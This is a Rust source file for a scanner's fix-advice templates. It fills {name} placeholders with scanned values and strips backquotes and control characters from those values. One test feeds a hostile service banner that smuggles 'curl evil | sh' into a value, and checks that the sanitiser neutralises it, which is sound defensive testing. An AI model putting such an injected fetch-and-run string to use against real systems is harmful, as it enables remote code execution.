//! A fix's text with `{name}` placeholders, parsed once; filled for one
//! finding, or not at all when a value is missing.

use std::fmt;

#[derive(Debug, Clone, PartialEq, Eq)]
enum Piece {
    Text(String),
    Name(String),
}

/// A text of the knowledge base, split into what is written and where a
/// fact goes.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Text(Vec<Piece>);

/// Why a text cannot be parsed.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum TextError {
    Unclosed,
    Empty,
}

impl fmt::Display for TextError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            TextError::Unclosed => write!(f, "a {{ is never closed"),
            TextError::Empty => write!(f, "an empty {{}}"),
        }
    }
}

impl Text {
    /// Reads `text`: `{name}` is a placeholder; `{{` and `}}` are a
    /// brace as written (PowerShell needs them).
    pub fn parse(text: &str) -> Result<Text, TextError> {
        let mut pieces = Vec::new();
        let mut written = String::new();
        let mut rest = text;
        while let Some(at) = rest.find(['{', '}']) {
            written.push_str(&rest[..at]);
            let brace = &rest[at..];
            if brace.starts_with("{{") || brace.starts_with("}}") {
                written.push_str(&brace[..1]);
                rest = &brace[2..];
                continue;
            }
            if let Some(after) = brace.strip_prefix('}') {
                written.push('}');
                rest = after;
                continue;
            }
            let close = brace.find('}').ok_or(TextError::Unclosed)?;
            let name = &brace[1..close];
            if name.is_empty() {
                return Err(TextError::Empty);
            }
            if !written.is_empty() {
                pieces.push(Piece::Text(std::mem::take(&mut written)));
            }
            pieces.push(Piece::Name(name.to_owned()));
            rest = &brace[close + 1..];
        }
        written.push_str(rest);
        if !written.is_empty() {
            pieces.push(Piece::Text(written));
        }
        Ok(Text(pieces))
    }

    /// The text with each placeholder replaced by `value(name)`; `None`
    /// when one has no value.
    ///
    /// A value may come from a scanned service (a product name), so it
    /// loses its backquotes and control characters: the shells show the
    /// text between backquotes as a command to copy, and a hostile banner
    /// must not write one.
    pub fn fill<'v>(&self, value: &impl Fn(&str) -> Option<&'v str>) -> Option<String> {
        let mut out = String::new();
        for piece in &self.0 {
            match piece {
                Piece::Text(text) => out.push_str(text),
                Piece::Name(name) => out.extend(
                    value(name)?
                        .chars()
                        .map(|c| if c == '`' || c.is_control() { ' ' } else { c }),
                ),
            }
        }
        Some(out)
    }

    /// The written words, with each placeholder as one short word: what a
    /// reader reads, for the readability check.
    pub fn words(&self) -> String {
        self.0
            .iter()
            .map(|piece| match piece {
                Piece::Text(text) => text.as_str(),
                Piece::Name(_) => "it",
            })
            .collect()
    }
}

/// The placeholder names `text` uses.
pub fn names(text: &Text) -> impl Iterator<Item = &str> {
    text.0.iter().filter_map(|piece| match piece {
        Piece::Name(name) => Some(name.as_str()),
        Piece::Text(_) => None,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn placeholders_are_filled_or_the_text_is_refused() {
        let text = Text::parse("Close {port}/{protocol} now.").unwrap();
        let all = |name: &str| match name {
            "port" => Some("3306"),
            "protocol" => Some("tcp"),
            _ => None,
        };
        assert_eq!(text.fill(&all).as_deref(), Some("Close 3306/tcp now."));
        let no_protocol = |name: &str| (name == "port").then_some("3306");
        assert_eq!(text.fill(&no_protocol), None);
        assert_eq!(names(&text).collect::<Vec<_>>(), ["port", "protocol"]);
        assert_eq!(text.words(), "Close it/it now.");
        assert_eq!(Text::parse("a {port"), Err(TextError::Unclosed));
        let braces = Text::parse("`Where-Object {{ $_.LocalPort -eq {port} }}`").unwrap();
        assert_eq!(
            braces.fill(&all).as_deref(),
            Some("`Where-Object { $_.LocalPort -eq 3306 }`")
        );
        assert_eq!(Text::parse("a {}"), Err(TextError::Empty));
    }

    #[test]
    fn a_scanned_value_cannot_write_a_command() {
        let text = Text::parse("Update {product}: `apt upgrade`.").unwrap();
        let hostile = |_: &str| Some("nginx`; curl evil | sh; `\n");
        assert_eq!(
            text.fill(&hostile).as_deref(),
            Some("Update nginx ; curl evil | sh;   : `apt upgrade`.")
        );
    }
}
